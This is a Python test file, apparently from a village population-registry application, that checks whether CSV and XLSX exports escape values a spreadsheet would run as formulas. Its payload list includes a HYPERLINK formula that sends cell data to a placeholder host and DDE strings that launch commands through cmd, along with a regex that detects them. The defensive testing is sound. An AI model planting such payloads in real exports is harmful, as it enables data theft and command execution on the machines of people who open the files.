"""Formula injection: a value typed as a spreadsheet formula stays text in every export, and reads back exact."""

import csv
import io
import re
import zipfile

from core.penduduk.tables import Penduduk
from plugin_sdk.dokumen import csv_cell, read_cell
from plugin_sdk.testing import run_sync
from plugins.impor.contoh import rows, write_csv
from tests.impor_helpers import apply, check, export, figures

FORMULAS = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]
DANGEROUS = re.compile(r"^[=+\-@\t\r]")


def test_formula_like_values_are_text_in_every_export_and_read_back_exactly(admin_client, balai, tmp_path):
    data = rows(8, seed=11)
    apply(admin_client, balai, check(admin_client, balai, write_csv(tmp_path / "awal.csv", data)))
    targets = [r["nik"] for r in data[:len(FORMULAS)]]
    for nik, formula in zip(targets, FORMULAS):  # as a careless or hostile hand could have typed them
        run_sync(Penduduk.update({Penduduk.nama: f"Nama {nik[-3:]}", Penduduk.tempat_lahir: formula[:80],
                                  Penduduk.nama_ibu: formula[:120]}).where(Penduduk.nik == nik).run())

    for fmt in ("opensid-csv", "balai-csv"):
        content = export(admin_client, balai, fmt).decode()
        cells = [c for row in csv.reader(io.StringIO(content)) for c in row]
        risky = [c for c in cells if DANGEROUS.match(c) and c != "-" and not re.fullmatch(r"-?\d+(\.\d+)?", c)]
        assert not risky, f"{fmt}: cells a spreadsheet would run as formulas: {risky[:5]}"
        assert "'=HYPERLINK" in content and "'+cmd" in content and "'@SUM" in content
        (tmp_path / f"ekspor.{fmt}.csv").write_text(content, encoding="utf-8")
        # Imported back, the guard comes off: nothing would change.
        assert figures(admin_client.get(check(admin_client, balai, tmp_path / f"ekspor.{fmt}.csv")).text)["diubah"] == 0

    book = zipfile.ZipFile(io.BytesIO(export(admin_client, balai, "opensid-xlsx")))
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula element: every text is an inline string
    assert '<t xml:space="preserve">=HYPERLINK(' in sheet.replace("&quot;", '"')


def test_the_guard_leaves_numbers_and_dashes_alone_and_undoes_itself():
    for value in ("-", "-0.23", "100.5", "+62", "Siti", "", "Jorong Koto - Tuo"):
        assert csv_cell(value) == value
    for formula in FORMULAS:
        assert csv_cell(formula) == "'" + formula and read_cell(csv_cell(formula)) == formula
    assert csv_cell(7) == 7 and csv_cell(None) is None
